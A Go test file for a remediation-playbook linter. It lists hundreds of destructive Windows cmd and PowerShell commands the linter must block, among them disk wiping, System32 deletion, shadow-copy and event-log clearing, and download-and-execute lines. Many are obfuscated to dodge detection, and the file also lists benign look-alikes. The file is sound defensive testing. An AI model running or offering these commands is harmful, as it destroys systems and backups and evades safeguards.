package playbook

import (
	"slices"
	"strings"
	"testing"

	"github.com/fleetmend/fleetmend/remediate/playbook/shellread"
)

// harmful are commands that lint must stop, with the shell that runs them; warned are those that it only remarks on. Each row of the list is met.
var harmful = []struct{ shell, body string }{
	// as they stand in manuals
	{"powershell", `Format-Volume -DriveLetter D`},
	{"cmd", `format D: /fs:ntfs /q /y`},
	{"powershell", `Clear-Disk -Number 0 -RemoveData -Confirm:$false`},
	{"powershell", `Get-Disk 0 | Clear-Disk -RemoveData`},
	{"powershell", `Remove-Partition -DiskNumber 0 -PartitionNumber 1`},
	{"cmd", `(echo select disk 0 & echo clean) | diskpart`},
	{"cmd", `diskpart /s script.txt`},
	{"powershell", "@'\nselect disk 0\nclean\n'@ | diskpart"},
	{"cmd", `cipher /w:C:\`},
	{"cmd", `sdelete -accepteula C:\x`},
	{"cmd", `mountvol D: /d`},
	{"powershell", `Set-Content \\.\PhysicalDrive0 x`},
	{"cmd", `rd /s /q %SystemRoot%\System32\drivers\CrowdStrike`},
	{"powershell", `Remove-Item "$env:windir\System32\drivers\CrowdStrike\*" -Recurse -Force`},
	{"powershell", `Remove-Item -Recurse C:\`},
	{"powershell", `Remove-Item C:\Windows\System32\config\SYSTEM -Force`},
	{"cmd", `del /s C:\Windows\*.dll`},
	{"cmd", `del /f /s /q C:\Windows\System32`},
	{"cmd", `del C:\Windows\System32\ntoskrnl.exe`},
	{"powershell", `[System.IO.Directory]::Delete('C:\Users', $true)`},
	{"powershell", `(Get-Item C:\Windows).Delete($true)`},
	{"cmd", `ren C:\Windows\System32\drivers drivers.old`},
	{"powershell", `Move-Item C:\Windows\System32\config D:\`},
	{"cmd", `del /q "C:\Program Files\Vendor\*.sys"`},
	{"cmd", `robocopy C:\empty C:\Windows /MIR`},
	{"cmd", `takeown /f C:\Windows /r /d y`},
	{"cmd", `icacls C:\ /reset /t`},
	{"powershell", `Remove-Item Cert:\LocalMachine\Root\* -Force`},
	{"cmd", `bcdedit /delete {current}`},
	{"cmd", `bcdedit /import C:\bcd`},
	{"cmd", `bcdedit /set {default} osdevice partition=D:`},
	{"cmd", `bootsect /nt60 C:`},
	{"cmd", `verifier /standard /all`},
	{"cmd", `C:\Windows\System32\Sysprep\sysprep.exe /generalize /oobe`},
	{"cmd", `systemreset -factoryreset`},
	{"cmd", `dism /online /cleanup-image /startcomponentcleanup /resetbase`},
	{"powershell", `Stop-Computer -Force`},
	{"cmd", `shutdown /s /t 0`},
	{"cmd", `shutdown -p`},
	{"cmd", `wmic os where primary=true call shutdown`},
	{"powershell", `(Get-WmiObject Win32_OperatingSystem).Win32Shutdown(12)`},
	{"cmd", `taskkill /f /im lsass.exe`},
	{"powershell", `Get-Process winlogon | Stop-Process -Force`},
	{"cmd", `manage-bde -off C:`},
	{"powershell", `Disable-BitLocker -MountPoint C:`},
	{"cmd", `manage-bde -protectors -delete C: -type RecoveryPassword`},
	{"powershell", `Remove-BitLockerKeyProtector -MountPoint C: -KeyProtectorId $id`},
	{"cmd", `manage-bde -forcerecovery C:`},
	{"powershell", `Lock-BitLocker -MountPoint D: -ForceDismount`},
	{"cmd", `sc config WinRM start= disabled`},
	{"cmd", `sc.exe \\. delete RpcSs`},
	{"powershell", `Set-Service -Name WinRM -StartupType Disabled`},
	{"powershell", `Get-Service BFE | Stop-Service -Force`},
	{"cmd", `net stop WinRM`},
	{"cmd", `net stop "DNS Client"`},
	{"cmd", `wmic service where "name='WinRM'" call stopservice`},
	{"powershell", `Restart-Service WinRM`},
	{"powershell", `Stop-Service Win*`},
	{"cmd", `netsh advfirewall set allprofiles firewallpolicy blockinbound,allowoutbound`},
	{"powershell", `Set-NetFirewallProfile -All -DefaultInboundAction Block`},
	{"powershell", `New-NetFirewallRule -DisplayName x -Direction Inbound -LocalPort 5985 -Protocol TCP -Action Block`},
	{"cmd", `netsh advfirewall firewall add rule name=x dir=in action=block protocol=TCP localport=5986`},
	{"cmd", `netsh interface set interface "Ethernet" admin=disable`},
	{"powershell", `Disable-NetAdapter -Name * -Confirm:$false`},
	{"cmd", `ipconfig /release`},
	{"cmd", `route -f`},
	{"powershell", `Disable-PSRemoting -Force`},
	{"cmd", `winrm delete winrm/config/Listener?Address=*+Transport=HTTP`},
	{"powershell", `Remove-Computer -UnjoinDomainCredential $c -Force`},
	{"cmd", `dsregcmd /leave`},
	{"cmd", `vssadmin delete shadows /all /quiet`},
	{"cmd", `wmic shadowcopy delete`},
	{"powershell", `Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }`},
	{"cmd", `wbadmin delete catalog -quiet`},
	{"powershell", `Disable-ComputerRestore -Drive C:\`},
	{"cmd", `wevtutil cl System`},
	{"powershell", `Clear-EventLog -LogName Application`},
	{"cmd", `auditpol /clear /y`},
	{"cmd", `fsutil usn deletejournal /d C:`},
	{"cmd", `reg delete HKLM\SYSTEM\CurrentControlSet /f`},
	{"cmd", `reg delete HKLM\SOFTWARE /f`},
	{"cmd", `reg restore HKLM\SYSTEM C:\x.hiv`},
	{"cmd", `reg add HKLM\SYSTEM\CurrentControlSet\Services\stornvme /v Start /t REG_DWORD /d 4 /f`},
	{"powershell", `Remove-Item HKLM:\SYSTEM\CurrentControlSet\Services -Recurse`},
	{"powershell", `Set-ItemProperty -Path HKLM:\SYSTEM\Select -Name Current -Value 2`},
	{"powershell", `[Microsoft.Win32.Registry]::SetValue('HKEY_LOCAL_MACHINE\SYSTEM\Setup', 'SetupType', 2)`},
	{"cmd", `bcdedit /deletevalue {fwbootmgr} displayorder`},
	{"powershell", `Clear-Tpm`},

	// dressed up
	{"powershell", `ri -r -fo C:\`},
	{"powershell", `rm C:/Windows -Rec -Force`},
	{"powershell", `del C:\* -Recurse`},
	{"powershell", `& 'Format-Volume' -DriveLetter C`},
	{"powershell", "fOrMaT-vOlUmE -DriveLetter C"},
	{"powershell", "For`mat-Volume -DriveLetter C"},
	{"powershell", `Storage\Format-Volume -DriveLetter C`},
	{"powershell", `$x = 'C:\'; $y = "${x}Windows"; Remove-Item $y -Recurse`},
	{"powershell", `$a = @{Path = 'C:\'; Recurse = $true; Force = $true}; Remove-Item @a`},
	{"powershell", `Remove-Item (Join-Path $env:SystemDrive 'Windows') -Recurse`},
	{"powershell", `Get-ChildItem C:\Windows -Recurse | ForEach-Object { Remove-Item $_.FullName -Force }`},
	{"powershell", `foreach ($f in Get-ChildItem C:\Windows\System32) { $f.Delete() }`},
	{"powershell", `Set-Alias nothing Stop-Computer; nothing -Force`},
	{"powershell", `Set-Location C:\Windows\System32; Remove-Item * -Recurse`},
	{"powershell", `if ($true) { try { Stop-Computer } catch { } }`},
	{"powershell", `Write-Output "done $(Stop-Computer)"`},
	{"powershell", `iex 'Stop-Computer'`},
	{"powershell", `'Stop-Computer' | iex`},
	{"powershell", `iex ('Stop-' + 'Computer')`},
	{"powershell", `cmd /c "rd /s /q C:\Windows"`},
	{"powershell", `cmd.exe /c rd /s /q C:\Windows`},
	{"powershell", `& "$env:ComSpec" /c 'shutdown /s'`},
	{"powershell", `Start-Process cmd.exe -ArgumentList '/c', 'rd /s /q C:\' -Wait -WindowStyle Hidden`},
	{"powershell", `Start-Process -FilePath shutdown -ArgumentList '/s /t 0'`},
	{"powershell", "Remove-Item \u2013Recurse \u201cC:\\\u201d"},
	{"powershell", `Remove-Item FileSystem::C:\Windows -Recurse`},
	{"powershell", `Remove-Item \\localhost\c$\Windows -Recurse`},
	{"powershell", `Remove-Item C:\Temp\..\Windows -Recurse`},
	{"powershell", `Remove-Item C:\Win* -Recurse`},
	{"powershell", `Invoke-Command -ScriptBlock { Stop-Computer }`},
	{"powershell", `Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute 'shutdown.exe' -Argument '/s /t 0')`},
	{"cmd", `@R^D /q/s C:\Win^dows`},
	{"cmd", `rd/s/q C:\Windows`},
	{"cmd", `"%SystemRoot%\System32\shutdown.exe" -s`},
	{"cmd", "set P=C:\\\r\nrd /s /q %P%"},
	{"cmd", `for /d %%i in (C:\Windows\*) do rd /s /q "%%i"`},
	{"cmd", `if exist C:\Windows (rd /s /q C:\Windows) else echo nothing`},
	{"cmd", `echo y | format C:`},
	{"cmd", `call shutdown /s`},
	{"cmd", `start "" /wait shutdown /s`},
	{"cmd", "cd /d C:\\Windows\\System32\ndel /q /s *"},
	{"cmd", `powershell -NoProfile -ExecutionPolicy Bypass -Command "Clear-Disk -Number 0"`},
	{"cmd", `schtasks /create /tn x /tr "shutdown /s /t 0" /sc once /st 00:00`},
	{"cmd", `forfiles /p C:\Windows /s /c "cmd /c del @path"`},
	{"cmd", "shut^\ndown /s"},
	{"cmd", `wmic process call create "shutdown /s"`},
	{"cmd", `del C:\Windows\System32\drivers\*.sys & echo done`},
	{"cmd", `reg.exe   DELETE "HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control" /F`},
	{"powershell", `$k = 'HKLM:\SYSTEM\CurrentControlSet\Control\Lsa'; Set-ItemProperty $k 'Security Packages' @()`},

	// made up to slip through
	{"powershell", "function Clean($p) { Remove-Item -Path $p -Recurse -Force }\nClean 'C:\\Windows'"},
	{"powershell", "$cmds = @('Stop-Computer -Force')\nforeach ($c in $cmds) { Invoke-Expression $c }"},
	{"powershell", `@('WinRM','RpcSs') | ForEach-Object { Set-Service -Name $_ -StartupType Disabled }`},
	{"powershell", "$svc = Get-Service -Name WinRM\n$svc.Stop()"},
	{"powershell", `foreach ($s in 'WinRM','Dhcp') { & sc.exe config $s start= disabled }`},
	{"powershell", `Get-ChildItem -Path C:\ -Recurse -Include *.sys | Remove-Item -Force`},
	{"powershell", `Get-PSDrive -PSProvider FileSystem | ForEach-Object { Remove-Item "$($_.Root)*" -Recurse -Force }`},
	{"powershell", `Get-Volume | Where-Object DriveType -eq Fixed | Format-Volume -Confirm:$false`},
	{"powershell", `$k='HKLM:\SYSTEM\CurrentControlSet\Services'; Get-ChildItem $k | Remove-Item -Recurse -Force`},
	{"powershell", `& { param($x) rm $x -r } 'C:\Windows'`},
	{"powershell", `$sb = [scriptblock]::Create('Stop-Computer'); & $sb`},
	{"powershell", `. { Stop-Computer }`},
	{"powershell", `Start-Job { Clear-Disk 0 -RemoveData }`},
	{"powershell", `Get-CimInstance Win32_OperatingSystem | Invoke-CimMethod -MethodName Win32Shutdown -Arguments @{Flags=12}`},
	{"powershell", `switch (1) { 1 { shutdown.exe /s /f /t 0 } }`},
	{"powershell", `while($true){Stop-Process -Name lsass -Force}`},
	{"powershell", `$d = $env:SystemRoot + '\System32'; Remove-Item $d -Recurse`},
	{"powershell", `[System.IO.Directory]::GetFiles('C:\Windows\System32') | % { [System.IO.File]::Delete($_) }`},
	{"powershell", `(New-Object -ComObject Scripting.FileSystemObject).DeleteFolder('C:\Windows')`},
	{"powershell", `Remove-Item -Path ("{0}\Windows" -f $env:SystemDrive) -Recurse`},
	{"powershell", `'C:\Windows','C:\Users' | Remove-Item -Recurse -Force`},
	{"powershell", `$n='Stop'+'-Computer'; & $n -Force`},
	{"powershell", `Push-Location C:\; Remove-Item .\Windows -Recurse`},
	{"powershell", `echo y | cmd /c format D:`},
	{"powershell", `if (-not (Test-Path C:\x)) { bcdedit.exe /delete '{default}' /f }`},
	{"powershell", `Set-ItemProperty 'Registry::HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\Session Manager' BootExecute 'x'`},
	{"powershell", `New-ItemProperty -Path HKLM:\SYSTEM\CurrentControlSet\Services\disk -Name Start -Value 4 -Force`},
	{"powershell", `Set-Location HKLM:\SYSTEM\CurrentControlSet; Remove-Item .\Control -Recurse`},
	{"powershell", `cd HKLM:\SYSTEM\Select; Set-ItemProperty . -Name Current -Value 3`},
	{"powershell", `Uninstall-WindowsFeature AD-Domain-Services`},
	{"powershell", `powershell {Stop-Computer}`},
	{"cmd", "set A=shut\nset B=down\n%A%%B% /s"},
	{"cmd", `for %%s in (WinRM RpcSs) do sc config %%s start= disabled`},
	{"cmd", `for /f "tokens=*" %%a in ('wevtutil el') do wevtutil cl "%%a"`},
	{"cmd", `for /f %%d in ('dir /b C:\Windows') do rd /s /q C:\Windows\%%d`},
	{"cmd", "pushd %SystemRoot%\\System32\\drivers\ndel *.sys\npopd"},
	{"cmd", `%comspec% /c "del /f /s /q %windir%\*"`},
	{"cmd", "cmd /c rd /s /q ^\nC:\\Windows"},
	{"cmd", "if exist x (\n  rd /s /q C:\\Windows\n)"},
	{"cmd", "(\nvssadmin delete shadows /all\n)"},
	{"cmd", `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager" /v BootExecute /t REG_MULTI_SZ /d x /f`},
	{"cmd", `reg load HKLM\OFF C:\x & reg delete HKLM\OFF\ControlSet001 /f`},
	{"cmd", `echo Y| cacls C:\ /G Everyone:F`},
	{"cmd", `bcdedit -set {current} path \x`},
	{"cmd", `start /b cmd /c shutdown -s`},
	{"cmd", `wmic path Win32_ShadowCopy delete`},
	{"cmd", `del /q /f C:\Windows\System32\config\*`},
	{"cmd", `attrib -h -s C:\bootmgr & del C:\bootmgr`},
	{"cmd", `rundll32 powrprof.dll,SetSuspendState`},
	{"cmd", `powershell Stop-Computer`},
	{"cmd", `powershell "& {Stop-Computer}"`},
	{"cmd", `mshta vbscript:Execute("x")`},
	{"cmd", `"C:\Windows\System32\cmd.exe" /c shutdown /s`},
	{"cmd", `!X! & %X:~0,1%hutdown /s`},
	{"cmd", `copy nul C:\Windows\System32\ntoskrnl.exe`},
	{"cmd", `type nul > C:\Windows\System32\drivers\ntfs.sys`},
	{"cmd", `netsh advfirewall reset & netsh winhttp reset proxy`},
	{"powershell", `Uninstall-WindowsFeature AD-Domain-Services -Restart`},
	{"cmd", `netsh advfirewall reset`},
	{"cmd", `copy nul C:\Windows\System32\ntoskrnl.exe`},

	// nobody can read it
	{"cmd", `powershell -enc SQBFAFgA`},
	{"powershell", `pwsh -NonInteractive -EncodedCommand SQBFAFgA`},
	{"powershell", `powershell.exe -e SQBFAFgA`},
	{"powershell", `iex (New-Object Net.WebClient).DownloadString('https://example.com/x.ps1')`},
	{"powershell", `Invoke-WebRequest https://example.com/x.ps1 | Invoke-Expression`},
	{"powershell", `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)))`},
}

var warned = []struct{ shell, body string }{
	{"cmd", `del C:\Windows\System32\drivers\bad.sys`},
	{"cmd", `bcdedit /set {current} recoveryenabled No`},
	{"cmd", `reagentc /disable`},
	{"cmd", `pnputil /delete-driver oem7.inf /uninstall /force`},
	{"powershell", `Remove-WindowsDriver -Path D:\ -Driver oem7.inf`},
	{"cmd", `shutdown /r /t 0`},
	{"powershell", `Restart-Computer -Force`},
	{"cmd", `manage-bde -protectors -disable C:`},
	{"powershell", `Suspend-BitLocker -MountPoint C: -RebootCount 0`},
	{"cmd", `netsh advfirewall set allprofiles state off`},
	{"powershell", `Set-NetFirewallProfile -Enabled False`},
	{"cmd", `netsh int ip reset`},
	{"powershell", `Set-MpPreference -DisableRealtimeMonitoring $true`},
}

// harmless scripts look like harmful ones, or are what repairs do every day.
var harmless = []struct{ shell, body string }{
	{"powershell", "# Format-Volume -DriveLetter C\n<# Clear-Disk -Number 0\nStop-Computer #>\nGet-Disk"},
	{"powershell", `Write-Output 'Stop-Computer'; Write-Host "never run Format-Volume C:"; Write-Warning "rd /s /q C:\Windows"`},
	{"powershell", `throw "do not use Stop-Computer"`},
	{"powershell", `'Stop-Computer' | Out-File -FilePath C:\ProgramData\Vendor\list.txt`},
	{"powershell", "$help = @'\nRemove-Item C:\\ -Recurse\n'@\n$help | Out-Null"},
	{"powershell", `Get-Help Format-Volume; Get-Command Stop-Computer; if (Get-Command Clear-Disk -ErrorAction SilentlyContinue) { exit 1 }`},
	{"powershell", `Get-ChildItem C:\Windows -Recurse -Filter *.sys | Select-Object Name`},
	{"powershell", `Get-ChildItem C:\Windows | Format-Table Name; Get-Date -Format s; 'x' -f 1`},
	{"powershell", `Remove-Item C:\ -Recurse -WhatIf`},
	{"powershell", `Remove-Item -LiteralPath 'C:\ProgramData\Vendor\cache' -Recurse -Force -ErrorAction SilentlyContinue`},
	{"powershell", `Remove-Item $env:SystemRoot\SoftwareDistribution\Download -Recurse -Force`},
	{"powershell", `Get-ChildItem C:\Windows\Temp | Remove-Item -Recurse -Force`},
	{"powershell", `Stop-Service wuauserv, bits; Rename-Item C:\Windows\SoftwareDistribution SoftwareDistribution.old; Start-Service wuauserv, bits`},
	{"powershell", `Stop-Service cryptsvc; Rename-Item C:\Windows\System32\catroot2 catroot2.old; Start-Service cryptsvc`},
	{"powershell", `Restart-Service Spooler; Get-Service WinRM; Start-Service WinRM; Set-Service WinRM -StartupType Automatic`},
	{"powershell", `$format = 'C:'; $x = @{ Format = 'C:'; Path = 'C:\Windows' }; $x.Path`},
	{"powershell", `Get-BitLockerVolume -MountPoint C: | Select-Object ProtectionStatus; Suspend-BitLocker -MountPoint C: -RebootCount 1; Resume-BitLocker C:`},
	{"powershell", `Set-NetFirewallProfile -Profile Domain -Enabled True -DefaultInboundAction Allow`},
	{"powershell", `New-NetFirewallRule -DisplayName x -Direction Inbound -LocalPort 5985 -Protocol TCP -Action Allow`},
	{"powershell", `Get-CimInstance Win32_ShadowCopy; Get-WinEvent -LogName System -MaxEvents 5; Get-Process lsass`},
	{"powershell", `Get-ItemProperty HKLM:\SYSTEM\Select; Test-Path HKLM:\SYSTEM\CurrentControlSet\Control\Lsa`},
	{"powershell", `Set-ItemProperty -Path HKLM:\SOFTWARE\Vendor -Name Setup -Value 1; Remove-Item HKLM:\SOFTWARE\Vendor -Recurse`},
	{"powershell", `Start-Process msiexec.exe -ArgumentList '/x {11111111-1111-1111-1111-111111111111} /qn' -Wait; exit $LASTEXITCODE`},
	{"powershell", `powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\Vendor\fix.ps1`},
	{"powershell", `& "$env:ProgramFiles\Vendor\repair.exe" /s /quiet`},
	{"powershell", `'list disk' | diskpart`},
	{"powershell", `Copy-Item C:\ProgramData\Vendor\a.dll C:\Windows\System32\a.dll`},
	{"cmd", "rem format C:\n:: rd /s /q C:\\Windows\n@rem shutdown /s\necho format C: would be wrong, so would del /s C:\\Windows"},
	{"cmd", `format /?`},
	{"cmd", `shutdown /a`},
	{"cmd", `rd /s /q "C:\ProgramData\Vendor\cache"`},
	{"cmd", `del /f /q "C:\ProgramData\Vendor\bad.dat" >nul 2>&1`},
	{"cmd", `del /q /s %SystemRoot%\Temp\*`},
	{"cmd", "net stop spooler\ndel /q %systemroot%\\System32\\spool\\PRINTERS\\*\nnet start spooler"},
	{"cmd", `net stop w32time & w32tm /unregister & w32tm /register & net start w32time`},
	{"cmd", `sc query WinRM & sc config WinRM start= delayed-auto & net start WinRM`},
	{"cmd", `bcdedit /enum & bcdedit /export C:\ProgramData\Vendor\bcd & bcdedit /deletevalue {current} safeboot`},
	{"cmd", `vssadmin list shadows & wevtutil qe System /c:5 & wevtutil epl System C:\x.evtx & manage-bde -status & manage-bde -protectors -get C:`},
	{"cmd", `reg query HKLM\SYSTEM\CurrentControlSet\Control\Lsa & reg export HKLM\SYSTEM C:\x.reg`},
	{"cmd", `reg delete HKLM\SOFTWARE\Vendor /f & reg delete HKLM\SYSTEM\CurrentControlSet\Services\VendorSvc /f`},
	{"cmd", `netsh advfirewall show allprofiles & ipconfig /all & ipconfig /flushdns & route print & cipher /c C:\x & icacls C:\ProgramData\Vendor /reset /t`},
	{"cmd", `if not exist "%ProgramData%\Vendor\format.txt" echo no & taskkill /im vendor.exe /f & robocopy C:\a C:\ProgramData\Vendor /e`},
	{"cmd", `dism /online /cleanup-image /restorehealth & sfc /scannow & chkdsk C: /scan & mountvol & fsutil usn queryjournal C:`},
}

func scriptFindings(t *testing.T, shell, body string) (all []Finding) {
	t.Helper()
	s, err := FromScript(shell, body)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range Lint(s) {
		if f.Rule != "script-undo" && f.Rule != "fixed-drive" {
			all = append(all, f)
		}
	}
	return all
}

func TestHarmfulCommandsAreStopped(t *testing.T) {
	for _, c := range harmful {
		found := scriptFindings(t, c.shell, c.body)
		if !slices.ContainsFunc(found, func(f Finding) bool { return f.Severity == SeverityError && len(f.Advice) > 8 }) {
			t.Errorf("%s: lint lets pass: %s\n%v", c.shell, c.body, found)
		}
	}
	for _, c := range warned {
		found := scriptFindings(t, c.shell, c.body)
		if len(found) == 0 || slices.ContainsFunc(found, func(f Finding) bool { return f.Severity == SeverityError }) {
			t.Errorf("%s: a warning is wanted of: %s\n%v", c.shell, c.body, found)
		}
	}
}

func TestHarmlessCommandsPass(t *testing.T) {
	for _, c := range harmless {
		for _, f := range scriptFindings(t, c.shell, c.body) {
			t.Errorf("%s: %s\n%s", c.shell, c.body, f)
		}
	}
}

// Every row of the list has an example, a source, and words that say what to do instead.
func TestEveryRowOfTheListIsMet(t *testing.T) {
	met := map[*scriptHarm]bool{}
	for _, c := range append(slices.Clone(harmful), warned...) {
		all := shellread.Read(c.shell, c.body)
		for _, one := range all {
			met[harmOf(one, all)] = true
		}
	}
	for i := range scriptHarms {
		if d := &scriptHarms[i]; !met[d] || !strings.HasPrefix(d.source, "https://") || d.breaks == "" || len(d.advice) < 8 {
			t.Errorf("the row %s %s has no example that nothing else finds, no source, or no words", d.names, d.needs)
		}
	}
}

// What the conditions and the undo of a step run is read as well.
func TestScriptsOfConditionsAndUndoAreRead(t *testing.T) {
	for _, text := range []string{
		"detect: [{script: {shell: cmd, body: 'shutdown /s'}}]", "verify: [{script: {shell: cmd, body: 'shutdown /s'}}]",
		"fix: [{script: {shell: cmd, body: 'echo', undo: 'shutdown /s'}}]",
	} {
		if !fires(t, "harmful-script", text) {
			t.Errorf("not found: %s", text)
		}
	}
	found := scriptFindings(t, "cmd", "echo one\n\nshutdown /s")
	if len(found) != 1 || !strings.Contains(found[0].Text, "line 3 of the script, `shutdown /s`: ") {
		t.Errorf("%v", found)
	}
}
